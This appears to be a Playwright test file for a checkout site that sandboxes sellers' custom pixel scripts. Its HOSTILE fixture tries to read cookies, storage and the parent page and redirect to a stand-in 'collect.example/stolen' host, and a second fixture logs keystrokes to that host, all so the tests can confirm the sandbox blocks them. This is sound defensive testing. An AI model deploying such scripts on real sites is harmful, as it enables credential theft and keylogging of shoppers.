import type { Page } from '@playwright/test'
import type { Pixel } from '#rules/catalogue/catalogue.ts'
import { advertising as de } from '#texts/de/advertising.ts'
import { PIXEL_PANEL } from '#texts/pixel-panel.ts'
import { expect, test } from './app.ts'
import {
  DESK,
  PHONE,
  chooseMethod,
  expectAccessible,
  expectNoSidewaysScroll,
  fillPerson,
  openCheckout,
  payButton,
  press,
} from './buyer.ts'
import { pt } from './words.ts'
import { putOnSale } from './shop.ts'

const HOST = 'https://collect.example'
const line = (event: string, action?: string) => ({
  event,
  is_active: true,
  ...(action !== undefined && { action }),
})
const custom = (
  script: string,
  lines = [line('PageView'), line('InitiateCheckout', 'on_filled_data')],
): Pixel => ({
  id: 'minha-medida',
  provider: 'custom',
  view: true,
  hosts: [HOST],
  script,
  pixel_configuration: lines,
})
const META: Pixel = {
  id: '402515001',
  provider: 'meta',
  view: true,
  pixel_configuration: [line('PageView'), line('InitiateCheckout', 'on_filled_data')],
}
const TELL = `balcao.on('*', (event) => fetch('${HOST}/tell', { method: 'POST', mode: 'no-cors', body: JSON.stringify(event) }))`

type SentEvent = { event: string; event_id: string; value: number; currency: string }

/** Stands in for the host that the script notifies; records the notifications and their senders. */
async function listen(
  page: Page,
): Promise<{ sent: SentEvent[]; origins: (string | null)[]; referrers: (string | null)[] }> {
  const received = {
    sent: [] as SentEvent[],
    origins: [] as (string | null)[],
    referrers: [] as (string | null)[],
  }
  await page.context().route(`${HOST}/**`, async (route) => {
    const request = route.request()
    received.sent.push(JSON.parse(request.postData() ?? '{}') as SentEvent)
    received.origins.push(await request.headerValue('origin'))
    received.referrers.push(await request.headerValue('referer'))
    await route.fulfill({ status: 204 })
  })
  return received
}

async function typePerson(page: Page): Promise<void> {
  await page.locator('input[name=name]').fill('Ana Lima')
  await page.locator('input[name=email]').fill('ana@example.com')
  await page.locator('input[name=cellphone]').fill('11987654321')
  await page.locator('input[name=document]').fill('52998224725')
  await page.locator('input[name=document]').blur()
}

test(
  'a script of the seller is told each event once, by the id that the server has',
  { tag: DESK },
  async ({ page }) => {
    const received = await listen(page)
    const { id } = await putOnSale({ pixels: [custom(TELL), META] })
    await page.goto(`/${id}?country=BR&debugPixel=true`)
    await expect.poll(() => received.sent.map(({ event }) => event)).toEqual(['PageView'])
    await typePerson(page)
    await expect.poll(() => received.sent.map(({ event }) => event)).toEqual(['PageView', 'InitiateCheckout'])
    // It has no origin, and knows no address of ours.
    expect(new Set(received.origins)).toEqual(new Set(['null']))
    expect(new Set(received.referrers)).toEqual(new Set([null]))
    expect(JSON.stringify(received.sent)).not.toMatch(/ana|11987654321|52998224725/i)

    const log = await page.request.get(`/api/advertising/visit/${id}`)
    const { events } = (await log.json()) as { events: SentEvent[] }
    expect(events.map(({ event_id }) => event_id).toSorted()).toEqual(
      received.sent.map(({ event_id }) => event_id).toSorted(),
    )
    await page.reload()
    await expect(page.getByRole('region', { name: PIXEL_PANEL.pt.title })).toBeVisible()
    await expect(page.getByText('PageView', { exact: true })).toBeVisible()
    expect(received.sent).toHaveLength(2)
  },
)

for (const [size, tag] of [
  ['phone', PHONE],
  ['desk', DESK],
] as const) {
  test(
    `the panel of debugPixel says what happened to each event, at the ${size}`,
    { tag },
    async ({ page }) => {
      await listen(page)
      const { id } = await putOnSale({ pixels: [custom(TELL), META] })
      await page.goto(`/${id}?country=BR&debugPixel=true`)
      const panel = page.getByRole('region', { name: PIXEL_PANEL.pt.title })
      await expect(
        panel.getByText(`${PIXEL_PANEL.pt.browser} → minha-medida: ${PIXEL_PANEL.pt.delivered}`),
      ).toBeVisible()
      await panel.getByText(PIXEL_PANEL.pt.held).first().press('Enter')
      await expect(panel.getByText('"event_id"').first()).toBeVisible()
      await expectAccessible(page)
      await expectNoSidewaysScroll(page)
      await page.screenshot({ path: test.info().outputPath('panel.png'), fullPage: true })
    },
  )
}

test('the panel says why nothing is sent', { tag: PHONE }, async ({ page }) => {
  const { id } = await putOnSale({ pixels: [META] })
  await page.goto(`/${id}?country=BR&debugPixel=true`)
  const { title, why } = PIXEL_PANEL.pt
  const panel = page.getByRole('region', { name: title })
  await expect(panel.getByText(why.noKey({ pixel: `meta ${META.id}` }))).toBeVisible()
  await expectAccessible(page)
  await expectNoSidewaysScroll(page)
  await page.screenshot({ path: test.info().outputPath('why.png'), fullPage: true })

  const asked = await putOnSale({ pixels: [custom(TELL)] })
  await page.goto(`/de/${asked.id}?country=DE&debugPixel=true`)
  await expect(page.getByText(PIXEL_PANEL.de.why.unasked)).toBeVisible()
  const none = await putOnSale()
  await page.goto(`/${none.id}?country=BR&debugPixel=true`)
  await expect(panel.getByText(why.noPixel)).toBeVisible()
})

test('without the parameter there is no panel', { tag: DESK }, async ({ page }) => {
  const received = await listen(page)
  const { id } = await putOnSale({ pixels: [custom(TELL)] })
  await openCheckout(page, 'pt', id)
  await expect.poll(() => received.sent.length).toBe(1)
  await expect(page.getByRole('region', { name: PIXEL_PANEL.pt.title })).toHaveCount(0)
})

test('before a yes nothing runs, and after a no it is gone', { tag: DESK }, async ({ page }) => {
  const received = await listen(page)
  const { id } = await putOnSale({ pixels: [custom(TELL)] })
  await page.goto(`/de/${id}?country=DE`)
  const bar = page.getByRole('region', { name: de.title })
  await expect(bar).toBeVisible()
  await expect(bar).toContainText('collect.example')
  await expect(page.locator('iframe[title=Pixels]')).toHaveCount(0)
  expect(received.sent).toEqual([])
  await page.getByRole('button', { name: de.yes, exact: true }).click()
  await expect.poll(() => received.sent.map(({ event }) => event)).toEqual(['PageView'])
  await page.getByRole('button', { name: de.change }).press('Enter')
  await page.getByRole('button', { name: de.no, exact: true }).press('Enter')
  await expect(page.locator('iframe[title=Pixels]')).toHaveCount(0)
})

/** Script that tries everything it could do to the page around it, and reports the result of each try. */
const HOSTILE = `
const found = {}
const attempt = (name, deed) => { try { found[name] = String(deed()) } catch (error) { found[name] = 'refused: ' + error.name } }
attempt('cookie', () => document.cookie)
attempt('storage', () => localStorage.length)
attempt('database', () => indexedDB.open('x') && 'opened')
attempt('page', () => parent.document.title)
attempt('address', () => parent.location.href)
attempt('top', () => { top.location = '${HOST}/stolen'; return 'asked' })
attempt('parent', () => { parent.location.href = '${HOST}/stolen'; return 'asked' })
attempt('window', () => String(open('${HOST}/popup')))
attempt('dialog', () => String(confirm('x')))
attempt('own', () => self.origin + ' ' + document.referrer)
const link = document.createElement('a'); link.href = '${HOST}/stolen'; link.target = '_top'; document.body.append(link); link.click()
const form = document.createElement('form'); form.action = '${HOST}/stolen'; form.target = '_top'; document.body.append(form); attempt('form', () => { form.submit(); return 'asked' })
fetch('/api/advertising/visit/1', { credentials: 'include' }).then(() => 'read', () => 'refused').then((what) => { found.api = what
  return fetch('https://elsewhere.example/x', { mode: 'no-cors' }).then(() => 'sent', () => 'refused') }).then((what) => { found.elsewhere = what
  fetch('${HOST}/tell', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ event: 'found', found }) }) })
setTimeout(() => { location.href = '${HOST}/stolen-by-itself' }, 50)
setTimeout(() => { location.href = '/' + 1 }, 90)
`

test(
  'a hostile script reads nothing of the page, leads nowhere and opens nothing',
  { tag: DESK },
  async ({ page }) => {
    const visited: string[] = []
    await page.context().route('https://elsewhere.example/**', (route) => {
      visited.push(route.request().url())
      return route.fulfill({ status: 204 })
    })
    await page.context().route(`${HOST}/**`, async (route) => {
      visited.push(route.request().url())
      await route.fulfill({ status: 200, contentType: 'text/html', body: 'stolen' })
    })
    const opened: Page[] = []
    page.context().on('page', (other) => opened.push(other))
    const dialogs: string[] = []
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    const notify = page.context().waitForEvent('request', (request) => request.url() === `${HOST}/tell`)
    const { id } = await putOnSale({ pixels: [custom(HOSTILE)] })
    await openCheckout(page, 'pt', id)
    const address = page.url()
    await page.locator('input[name=name]').focus()
    const { found } = (await notify).postDataJSON() as { found: Record<string, string> }
    expect(found).toMatchObject({
      cookie: 'refused: SecurityError',
      storage: 'refused: SecurityError',
      page: 'refused: SecurityError',
      address: 'refused: SecurityError',
      window: 'null',
      dialog: 'false',
      own: 'null ',
      api: 'refused',
      elsewhere: 'refused',
    })
    expect(found['database']).toMatch(/^refused/)
    expect(found['top']).toMatch(/^(refused|asked)/)

    // Whatever it asked for has not happened.
    await expect(page.locator('iframe[title=Pixels]')).toBeAttached()
    await page.locator('input[name=name]').pressSequentially('Ana')
    await expect(page.locator('input[name=name]')).toHaveValue(/Ana$/)
    expect(page.url()).toBe(address)
    expect(opened).toEqual([])
    expect(dialogs).toEqual([])
    expect(visited.filter((url) => url !== `${HOST}/tell`)).toEqual([])
  },
)

test('a script that takes the focus is given no key, and is put out', { tag: DESK }, async ({ page }) => {
  const received: string[] = []
  await page.context().route(`${HOST}/**`, async (route) => {
    received.push(route.request().postData() ?? '')
    await route.fulfill({ status: 204 })
  })
  const script = `
    addEventListener('keydown', ({ key }) => fetch('${HOST}/key', { method: 'POST', mode: 'no-cors', body: key }))
    balcao.on('PageView', () => {
      fetch('${HOST}/ready', { method: 'POST', mode: 'no-cors', body: 'ready' })
      setTimeout(() => setInterval(() => focus(), 5), 1_000)
    })`
  const { id } = await putOnSale({ pixels: [custom(script)] })
  await openCheckout(page, 'pt', id)
  await expect.poll(() => received).toEqual(['ready'])
  await page.locator('input[name=name]').focus()
  await expect(page.locator('iframe[title=Pixels]')).toHaveCount(0)
  await page.keyboard.type('Ana Lima')
  await expect(page.locator('input[name=name]')).toHaveValue('Ana Lima')
  expect(received).toEqual(['ready'])
})

test('a sale is told to the script once, by the id of the sale', { tag: DESK }, async ({ page }) => {
  const received = await listen(page)
  const lines = [line('AddPaymentInfo'), line('Purchase', 'on_payment_success')]
  const { id } = await putOnSale({ pixels: [custom(TELL, lines)] }, { pix_checkout_auto_confirm: true })
  await page.goto(`/${id}?country=BR&debugPixel=true`)
  await fillPerson(page, pt)
  await chooseMethod(page, pt.payment.methods.PIX)
  await press(payButton(page, pt.payment.button.pix))
  await page.waitForURL((url) => url.pathname === '/payment-pending')
  const sale = new URL(page.url()).searchParams.get('s_id')
  await expect.poll(() => received.sent.filter(({ event }) => event === 'Purchase').length).toBe(1)
  const purchase = received.sent.find(({ event }) => event === 'Purchase')
  expect(purchase).toMatchObject({ event_id: `${sale}.Purchase`, value: 47, currency: 'BRL' })
  expect(JSON.stringify(received.sent)).not.toMatch(/@|token/)
  // The link's panel is on the page of the sale, too.
  const panel = page.getByRole('region', { name: PIXEL_PANEL.pt.title })
  await expect(panel.getByRole('heading', { name: 'Purchase · on_payment_success' })).toBeVisible()
  await expect(
    panel.getByText(`${PIXEL_PANEL.pt.browser} → minha-medida: ${PIXEL_PANEL.pt.delivered}`).first(),
  ).toBeVisible()
  await page.reload()
  await expect(page.getByLabel(pt.result.pix.code, { exact: true })).toBeVisible()
  await page.waitForLoadState('networkidle')
  expect(received.sent.filter(({ event }) => event === 'Purchase')).toHaveLength(1)
})
